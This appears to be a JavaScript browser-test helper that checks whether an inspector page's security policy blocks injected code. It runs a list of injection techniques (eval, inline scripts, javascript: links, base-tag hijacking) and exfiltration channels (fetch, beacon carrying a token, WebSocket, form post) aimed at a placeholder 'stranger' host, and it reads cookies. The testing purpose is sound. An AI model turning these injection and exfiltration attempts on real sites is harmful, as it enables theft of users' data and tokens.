// What somebody could do who has made the inspector's page itself run something of theirs: what each attempt gets.
window.tryInside = ({ stranger }) => {
  window.ran = [];
  const run = (name) => `window.ran.push('${name}')`;

  /** Says what came of it: the error that the browser threw, or nothing. */
  const thrown = (attempt) => {
    try {
      const value = attempt();
      return value === undefined ? 'nothing' : String(value);
    } catch (error) {
      return error.name;
    }
  };
  const caught = async (attempt) => {
    try {
      await attempt();
      return 'done';
    } catch (error) {
      return error.name;
    }
  };
  const element = (name, properties = {}) => {
    const made = Object.assign(document.createElement(name), properties);
    document.body.append(made);
    return made;
  };
  const loads = (name, properties) =>
    new Promise((resolve) => {
      const made = Object.assign(document.createElement(name), properties);
      made.addEventListener('load', () => resolve('loaded'));
      made.addEventListener('error', () => resolve('refused'));
      document.body.append(made);
    });
  const turn = () => new Promise((resolve) => setTimeout(resolve));

  const attempts = {
    eval: () => thrown(() => window['ev' + 'al']('1')),
    Function: () => thrown(() => new Function('return 1')()),
    'a timer with text': async () => {
      const got = thrown(() => void setTimeout(run('timer')));
      await turn();
      return got;
    },
    innerHTML: () => thrown(() => void Object.assign(element('div'), { innerHTML: '<b>x</b>' })),
    'document.write': () => thrown(() => void document.write('<b>x</b>')),
    'a frame with HTML': () => thrown(() => void element('iframe', { srcdoc: '<b>x</b>' })),
    'a script with text': () => thrown(() => void element('script', { text: run('script') })),
    'a script of a stranger': () => caught(() => loads('script', { src: `${stranger}/script.js` })),
    'a script from data': () =>
      import(`data:text/javascript,${run('data')}`).then(
        () => 'loaded',
        () => 'refused',
      ),
    'a handler as an attribute': async () => {
      const button = element('button');
      const got = thrown(() => button.setAttribute('onclick', run('handler')));
      button.click();
      await turn();
      return got;
    },
    'a link with javascript:': async () => {
      element('a', { href: `javascript:${run('link')}` }).click();
      await turn();
      return 'nothing';
    },
    'a policy of its own': () =>
      thrown(() => window.trustedTypes.createPolicy('own', { createHTML: (x) => x })),
    'a style of its own': () => {
      const div = element('div', { id: 'styled' });
      element('style', { textContent: '#styled { position: fixed }' });
      return getComputedStyle(div).position;
    },
    'another base': () => {
      const base = document.createElement('base');
      base.href = `${stranger}/`;
      document.head.append(base);
      return document.baseURI.startsWith(stranger) ? 'moved' : 'refused';
    },
    'a service worker': () => caught(() => navigator.serviceWorker.register('/assets/page.js')),
    'a worker': () => thrown(() => void new Worker('/assets/page.js')),
    'a picture of a stranger': () => loads('img', { src: `${stranger}/picture.png` }),
    'a request to a stranger': () => caught(() => fetch(`${stranger}/take`, { mode: 'no-cors' })),
    'a beacon to a stranger': () => {
      navigator.sendBeacon(`${stranger}/take`, 'token');
      return 'nothing';
    },
    'a socket to a stranger': () =>
      new Promise((resolve) => {
        try {
          const socket = new WebSocket(`${stranger.replace('http', 'ws')}/take`);
          socket.onerror = () => resolve('refused');
          socket.onopen = () => resolve('connected');
        } catch (error) {
          resolve(error.name);
        }
      }),
    'a form to a stranger': async () => {
      const form = element('form', { action: `${stranger}/take`, method: 'post' });
      form.submit();
      await turn();
      return 'nothing';
    },
    'a frame of a stranger': () =>
      new Promise((resolve) => {
        const frame = document.createElement('iframe');
        frame.addEventListener('load', () => resolve('refused'));
        frame.src = `${stranger}/frame`;
        document.body.append(frame);
      }),
    'a look at cookies': () => (document.cookie === '' ? 'none' : document.cookie),
  };
  const play = async () => {
    const got = {};
    for (const [name, attempt] of Object.entries(attempts)) got[name] = await attempt();
    return { got, ran: window.ran };
  };
  // From a timer: what a debugger has evaluated may evaluate text itself.
  return new Promise((resolve, reject) => setTimeout(() => play().then(resolve, reject)));
};
